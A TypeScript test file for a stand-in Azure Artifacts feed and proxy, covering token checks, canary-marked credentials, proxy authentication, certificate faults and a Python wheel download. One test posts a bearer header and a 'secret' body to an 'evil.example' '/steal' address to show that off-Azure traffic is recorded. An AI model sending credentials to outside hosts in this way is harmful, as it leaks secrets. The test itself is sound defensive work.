import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, beforeEach, test } from 'node:test'
import { ask, basic, tunnel } from '../azure/client.ts'
import { startStandIn } from '../azure/stand-in.ts'
import { WHEEL } from '../azure/wheel.ts'

const standIn = await startStandIn()
beforeEach(() => standIn.reset())
after(() => standIn.close())

const FEED = 'https://pkgs.dev.azure.com/contoso/_packaging/feed/pypi/simple/'

test('an anonymous read is answered with the challenge of a feed', async () => {
  const { status, headers, body } = await ask(standIn, FEED)
  assert.equal(status, 401)
  assert.match(headers['www-authenticate'] ?? '', /^Bearer authorization_uri=.*, Basic .*, TFS-Fed/)
  assert.equal(headers['x-vss-authorizationendpoint'], 'https://vssps.dev.azure.com/contoso/')
  assert.match(body, /^{"message":"TF400813: /)
  assert.deepEqual(standIn.connects, ['pkgs.dev.azure.com:443'])
  const [request] = standIn.requests
  assert.equal(request?.host, 'pkgs.dev.azure.com')
  assert.equal(request?.status(), 401)
  assert.deepEqual(request?.errors, [])
})

test('every sort of password opens a feed of its organization, and no other does', async () => {
  const { tokens } = standIn
  const statusOf = async (password: string, user = 'user'): Promise<number> =>
    (await ask(standIn, FEED, { headers: basic(user, password) })).status
  const session = { organization: 'contoso', scope: 'vso.packaging' }
  assert.equal(await statusOf(tokens.mintPat('contoso')), 200)
  assert.equal(await statusOf(tokens.mintSystemAccessToken('contoso')), 200)
  assert.equal(await statusOf(tokens.mintSessionToken(session)), 200)
  assert.equal(await statusOf(tokens.mintApplicationToken()), 200)
  assert.equal(await statusOf(tokens.mintUserToken()), 200)

  assert.equal(await statusOf(tokens.mintPat('contoso'), ''), 401)
  assert.equal(await statusOf(tokens.mintPat('fabrikam')), 401)
  assert.equal(await statusOf(tokens.mintUserToken({ expiresInSeconds: -1 })), 401)
  assert.equal(await statusOf(tokens.mintUserToken({ audience: 'https://vault' })), 401)
  assert.equal(await statusOf(tokens.mintFederatedAssertion()), 401)
  assert.equal(await statusOf('made-up'), 401)
  const revoked = tokens.mintPat('contoso')
  tokens.revoke(revoked)
  assert.equal(await statusOf(revoked), 401)
})

test('every token has the canary in its text', () => {
  const { tokens } = standIn
  const session = tokens.mintSessionToken({ organization: 'contoso', scope: 'vso.packaging' })
  const all = [tokens.mintUserToken(), tokens.mintApplicationToken(), tokens.mintPat('contoso'),
    tokens.mintSystemAccessToken('contoso'), tokens.mintFederatedAssertion(), session]
  for (const token of all) assert.match(token, /CANARY/)
  assert.equal(tokens.mintPat('contoso').length, 84)
})

test('the legacy host names its organization itself', async () => {
  const address = 'https://legacy.pkgs.visualstudio.com/project/_packaging/feed@view/pypi/simple/'
  assert.equal((await ask(standIn, address)).headers['x-vss-authorizationendpoint'],
    'https://app.vssps.visualstudio.com')
  const headers = basic('user', standIn.tokens.mintPat('legacy'))
  assert.equal((await ask(standIn, address, { headers })).status, 200)
})

test('a host that is none of Azure\'s is served, and all that it gets is on record', async () => {
  const question = { method: 'POST', headers: { authorization: 'Bearer x' }, body: 'secret' }
  const { status, body } = await ask(standIn, 'https://evil.example:8443/steal?a=b', question)
  assert.equal(status, 200)
  assert.equal(typeof JSON.parse(body).token, 'string')
  const [request] = standIn.requests
  assert.equal(request?.host, 'evil.example:8443')
  assert.equal(request?.path, '/steal?a=b')
  assert.equal(request?.headers['authorization'], 'Bearer x')
  assert.equal(request?.body, 'secret')
  assert.equal(request?.errors.length, 1)
})

test('a plain request to the proxy is refused and recorded', async () => {
  const { status } = await ask(standIn, `${standIn.proxyUrl}/contoso`)
  assert.equal(status, 400)
  assert.deepEqual(standIn.requests[0]?.errors, ['a plain request came to the proxy'])
})

test('a guarded proxy asks for its own credential', async () => {
  standIn.guardProxy('proxy:p@ss')
  const url = new URL(FEED)
  await assert.rejects(tunnel(standIn, url), /407/)
  const credential = Buffer.from('proxy:p@ss').toString('base64')
  const socket = await tunnel(standIn, url, { 'proxy-authorization': `Basic ${credential}` })
  socket.destroy()
})

test('the proxy is reached over TLS too', async () => {
  const socket = await tunnel(standIn, new URL(FEED), {}, standIn.secureProxyUrl)
  socket.destroy()
  assert.deepEqual(standIn.connects, ['pkgs.dev.azure.com:443'])
})

test('a spoiled certificate is refused', async () => {
  const codes = {
    expired: 'CERT_HAS_EXPIRED',
    'self-signed': 'DEPTH_ZERO_SELF_SIGNED_CERT',
    'wrong-name': 'ERR_TLS_CERT_ALTNAME_INVALID',
  } as const
  for (const [fault, code] of Object.entries(codes)) {
    standIn.spoilCertificate('pkgs.dev.azure.com', fault as keyof typeof codes)
    await assert.rejects(ask(standIn, FEED), { code })
  }
})

test('200 clients at once are served', async () => {
  const answers = await Promise.all(Array.from({ length: 200 }, () => ask(standIn, FEED)))
  assert.ok(answers.every(({ status }) => status === 401))
  assert.equal(standIn.requests.length, 200)
})

test('close ends hanging requests and open connections', async () => {
  const other = await startStandIn()
  const hanging = ask(other, 'https://pkgs.dev.azure.com/hang/_packaging/feed/pypi/simple/')
  const refused = assert.rejects(hanging)
  while (other.requests.length === 0) await new Promise(resolve => setTimeout(resolve, 5))
  await other.close()
  await refused
})

const PYTHON = `
import http.client, os, ssl, sys, urllib.parse, zipfile
context = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
context.verify_flags |= ssl.VERIFY_X509_STRICT
proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])
for host in ('pkgs.dev.azure.com', '192.0.2.1'):
    connection = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=context)
    connection.set_tunnel(host, 443)
    connection.request('GET', '/contoso/_packaging/feed/pypi/simple/')
    print(connection.getresponse().status)
with zipfile.ZipFile(sys.argv[1]) as wheel:
    print(wheel.testzip(), *wheel.namelist())
`

test('Python takes the certificates, strictly, and the wheel', async context => {
  const wheel = join(standIn.directory, WHEEL.name)
  writeFileSync(wheel, WHEEL.content)
  const python = await runPython(['-c', PYTHON, wheel])
  if (python === undefined) return context.skip('there is no python3')
  assert.equal(python, '401\n200\nNone private_package/__init__.py ' +
    ['METADATA', 'WHEEL', 'entry_points.txt', 'RECORD'].map(name => `private_package-1.0.dist-info/${name}`).join(' ') +
    '\n')
})

function runPython(args: readonly string[]): Promise<string | undefined> {
  return new Promise((resolve, reject) => {
    const env = { PATH: process.env['PATH'] ?? '', ...standIn.environment() }
    const child = spawn('python3', args, { env, stdio: ['ignore', 'pipe', 'inherit'] })
    let text = ''
    child.stdout.on('data', (chunk: Buffer) => { text += chunk.toString() })
    child.on('error', (error: NodeJS.ErrnoException) =>
      error.code === 'ENOENT' ? resolve(undefined) : reject(error))
    child.on('close', () => resolve(text))
  })
}
